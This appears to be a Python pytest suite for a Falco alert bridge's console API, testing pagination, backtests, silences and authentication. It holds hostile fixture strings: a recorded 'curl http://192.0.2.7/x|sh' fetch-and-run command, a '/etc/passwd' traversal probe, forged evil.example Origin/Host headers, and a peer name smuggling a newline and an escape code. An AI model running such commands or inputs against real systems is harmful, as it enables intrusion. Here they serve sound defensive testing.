"""The operator API at the console: searches with cursors, everything else by the bridge under the visitor's name."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import requests

from bridge.console.api.alerts import AlertOperations
from bridge.console.backtest.runs import Backtests
from bridge.console.data.reader import Reader, _Watch
from bridge.history.recent_hits import HitCounter
from bridge.journal.opening import open_for_router
from bridge.operator.actor import Actor
from bridge.operator.alert_model import WatchAlerts
from bridge.operator.client import AdminClient, AdminError
from bridge.operator.model.reload import ReloadResult
from bridge.operator.model.status import Status
from bridge.routing import Entry, Routed
from tests.channels.hostile import CORPUS
from tests.console.conftest import ROUTES, Visitor
from tests.e2e.harness import Instance
from tests.support.builders import alert
from tests.support.waiting import wait_until


def call(visitor: Visitor, method: str, path: str, status: int = 200, **more: Any) -> Any:
    """A program with the token, and no cookie."""
    headers = {"Authorization": f"Bearer {visitor.token}"} | more.pop("headers", {})
    answer = requests.request(method, f"{visitor.url}/api/v1{path}", headers=headers, timeout=60, **more)
    assert answer.status_code == status, answer.text
    assert "Set-Cookie" not in answer.headers
    return answer.json()


def pages(visitor: Visitor, path: str, **parameters: object) -> list[dict[str, Any]]:
    """The items of all pages."""
    found: list[dict[str, Any]] = []
    cursor: str | None = ""
    while cursor is not None:
        page = call(visitor, "GET", path, params=parameters | {"cursor": cursor})
        found += page["items"]
        cursor = page["next"]
    return found


def test_a_search_comes_in_pages(visitor: Visitor) -> None:
    """Each alert once, the newest first; a wrong question is a problem."""
    found = pages(visitor, "/alerts", condition="rule startswith hostile", limit=7)
    assert len({each["id"] for each in found}) == len(found) == len(CORPUS)
    received = [each["received_ns"] for each in found]
    assert received == sorted(received, reverse=True)
    assert found[0]["decisions"][0]["route"] == "hostile"
    assert "did you mean" in call(visitor, "GET", "/alerts", 400, params={"condition": "k8s.ns.nam = a"})["detail"]
    assert "is not a time" in call(visitor, "GET", "/alerts", 400, params={"since": "whenever"})["detail"]
    call(visitor, "GET", "/alerts", 400, params={"cursor": "x"})


def test_a_search_that_takes_too_long_continues(
    bridge: Instance, visitor: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where it ended: no alert is left out, and none comes twice."""
    monkeypatch.setattr(_Watch, "__init__", lambda self, _deadline: vars(self).update(_deadline=0.0, searched=0))
    from bridge.console.data import reader as module

    monkeypatch.setattr("bridge.history.search._REPORT_EVERY", 3)
    condition = "rule startswith hostile or source = terminal"
    whole = call(visitor, "GET", "/alerts", params={"condition": condition, "limit": 500})
    reading = Reader(bridge.journal_path)
    found: list[str] = []
    before = ""
    while True:
        page = reading.find(module.Question(condition=condition, before=before))
        found += [each.alert.id for each in page.alerts]
        if not page.next_before:
            break
        assert str(page.next_before) != before
        before = str(page.next_before)
    assert found == [each["id"] for each in whole["items"]]


def test_an_alert_has_its_story(visitor: Visitor) -> None:
    """Its decisions, and its messages with their attempts."""
    (found,) = pages(visitor, "/alerts", condition="k8s.pod.name = ticks")
    alert = call(visitor, "GET", f"/alerts/{found['id']}")
    assert {name: alert[name] for name in found} == found
    assert [(each["channel"], each["state"], each["relation"]) for each in alert["deliveries"]] == [
        ("pager", "delivered", "about")
    ]
    call(visitor, "GET", "/alerts/none", 404)


def test_sessions_have_their_commands(visitor: Visitor) -> None:
    """As the page shows them."""
    (session,) = pages(visitor, "/sessions")
    assert any("curl http://192.0.2.7/x|sh" in each["text"] for each in session["commands"])
    assert call(visitor, "GET", f"/sessions/{session['id']}") == session
    call(visitor, "GET", "/sessions/none", 404)


def test_routes_have_their_matches(visitor: Visitor) -> None:
    """In pages, in the order of the routes."""
    routes = pages(visitor, "/routes", limit=2)
    assert [each["route"] for each in routes][:3] == ["hostile", "flood", "typed"]
    assert set(routes[0]["matched"]) == {"1 h", "24 h", "7 d"}
    assert routes[0]["matched"]["7 d"] == len(CORPUS)
    assert routes[0]["last_ns"] > 0


def test_incidents_come_in_pages(visitor: Visitor) -> None:
    """The latest match first, each once; without a limit all at once."""
    whole = call(visitor, "GET", "/incidents")
    found = pages(visitor, "/incidents", limit=5)
    assert len(whole["items"]) > 5
    assert whole["next"] is None
    assert {each["id"] for each in found} == {each["id"] for each in whole["items"]}
    assert len(found) == len(whole["items"])
    matched = [each["matched_ns"] for each in found]
    assert matched == sorted(matched, reverse=True)
    call(visitor, "GET", "/incidents", 400, params={"cursor": "x"})


def test_the_tail_is_a_stream(visitor: Visitor) -> None:
    """Of events that a program can read."""
    headers = {"Authorization": f"Bearer {visitor.token}"}
    with requests.get(f"{visitor.url}/api/v1/tail", headers=headers, stream=True, timeout=60) as answer:
        lines = answer.iter_lines()
        assert next(lines) == b"event: tail"
        assert json.loads(next(lines).removeprefix(b"data: ")) == {"items": [], "skipped": 0}


def test_a_tail_counts_what_does_not_fit_into_an_event(tmp_path: Path) -> None:
    """The newest alerts are shown; more than an answer may contain was a fault, and the alerts were lost to the tail."""
    path = tmp_path / "j.db"
    journal = open_for_router(path)
    tail = AlertOperations(
        Reader(path), HitCounter(path), AdminClient(tmp_path / "a.sock"), Backtests("falco-bridge.yaml")
    ).tail()  # fmt: skip
    tail(Actor("alice"), WatchAlerts())
    large = [Entry(alert(number, output="x" * 1_500_000), Routed((), ())) for number in range(1, 13)]
    journal.alerts.append("falco", 1, large)
    shown = tail(Actor("alice"), WatchAlerts())
    journal.close()
    assert ([each.time_ns for each in shown.items], shown.skipped) == ([11, 12], 10)


def test_a_backtest_is_run_without_a_browser(reader: Visitor) -> None:
    """By a program at a console that only shows: the file, the start, the progress, the result and the patch."""
    file = call(reader, "GET", "/backtests/file")
    assert (file["text"], file["files"], file["routes"]) == (ROUTES, [file["file"]], ["hostile", "flood", "typed"])
    text = ROUTES.replace("to    pager", "to    archive")
    started = call(reader, "POST", "/backtests", json={"text": text, "file": file["file"], "since": "2020-01-01"})
    path = f"/backtests/{started['id']}"
    wait_until(lambda: call(reader, "GET", path)["state"] != "running", "the backtest", seconds=120)
    found = call(reader, "GET", path)
    rows = {row["channel"]: row for row in found["result"]["rows"] if not row["route"]}
    assert (rows["pager"]["lost"], rows["archive"]["gained"]) == (len(CORPUS), len(CORPUS)), found
    assert call(reader, "POST", f"{path}/cancel")["state"] == "done"
    patch = call(reader, "POST", "/backtests/patch", json={"text": text, "version": file["version"]})["patch"]
    assert "+  to    archive" in patch
    stale = call(reader, "POST", "/backtests/patch", 400, json={"text": text, "version": "0"})
    assert "has changed since it was opened" in stale["detail"]
    wrong = call(reader, "POST", "/backtests", 400, json={"text": text, "since": "whenever"})
    assert "is not a time" in wrong["detail"]
    assert "does not name" in call(reader, "GET", "/backtests/file?file=/etc/passwd", 404)["detail"]
    assert "no backtest x" in call(reader, "POST", "/backtests/x/cancel", 404)["detail"]


def test_both_processes_describe_the_same_operations(bridge: Instance, visitor: Visitor) -> None:
    """The bridge refers to the console for searches."""
    here = call(visitor, "GET", "/openapi.json")
    client = AdminClient(bridge.folder / "run/a.sock")
    there = client.get("/api/v1/openapi.json", dict)  # type: ignore[type-var]
    assert set(here["paths"]) == set(there["paths"]) >= {"/api/v1/alerts", "/api/v1/status", "/api/v1/silences"}
    assert here["components"] == there["components"]
    assert "servers" not in here["paths"]["/api/v1/alerts"]["get"]
    assert there["paths"]["/api/v1/alerts"]["get"]["servers"][0]["url"] == "{console}"
    with pytest.raises(AdminError, match="the console serves this; set `console`") as refused:
        client.get("/api/v1/alerts", Status)
    assert refused.value.status == 421


def test_an_act_is_forwarded_with_its_actor(bridge: Instance, visitor: Visitor) -> None:
    """Answers and refusals come back as they are; the bridge records who acted."""
    assert call(visitor, "GET", "/status")["version"]
    silence = call(visitor, "POST", "/silences", json={"condition": "rule = quiet", "seconds": 60})
    assert silence["author"] == "token from 127.0.0.1 (console)"
    call(visitor, "POST", f"/silences/{silence['id']}/expire", json={})
    call(visitor, "POST", f"/silences/{silence['id']}/expire", 404, json={})
    call(visitor, "POST", "/silences", 400, json={"condition": "rule =", "seconds": 60})
    assert "silence expired" in bridge.log
    assert "token from 127.0.0.1 (console)" in bridge.log
    assert call(visitor, "POST", "/silences/preview", json={"condition": "rule startswith hostile"})["alerts"] > 0
    visitor.post("/silences/add", {"condition": "rule = by-form", "for": "1m"})
    by_form = [each for each in call(visitor, "GET", "/silences")["items"] if each["condition"] == "rule = by-form"]
    assert [each["author"] for each in by_form] == ["token from 127.0.0.1 (console)"]


def test_the_admin_socket_takes_the_name_of_its_peer_as_text(bridge: Instance) -> None:
    """One line, bounded, and only there."""
    client = AdminClient(bridge.folder / "run/a.sock", "eve\nactor=root\x1b[31m" + "x" * 500 + " ☂")
    client.post("/api/v1/reload", ReloadResult)
    wait = [line for line in bridge.log.splitlines() if "requested by eve" in line]
    assert "\x1b" not in wait[-1]
    assert len(wait[-1]) < 600


def test_the_api_asks_for_the_token_too(visitor: Visitor, reader: Visitor) -> None:
    """Nothing without it, nothing for other sites, no act where the console only shows."""
    answer = requests.get(f"{visitor.url}/api/v1/alerts", timeout=60)
    assert (answer.status_code, answer.headers["WWW-Authenticate"]) == (401, "Bearer")
    wrong = {"Authorization": f"Bearer {visitor.token}x"}
    assert requests.get(f"{visitor.url}/api/v1/status", headers=wrong, timeout=60).status_code == 401
    call(visitor, "GET", "/alerts", 403, headers={"Origin": "https://evil.example"})
    call(visitor, "GET", "/alerts", 403, headers={"Host": "evil.example"})
    call(reader, "GET", "/status")
    call(reader, "POST", "/silences/preview", json={"condition": "rule exists"})
    call(reader, "POST", "/silences", 403, json={"condition": "rule exists", "seconds": 60})
    call(reader, "POST", "/reload", 403)
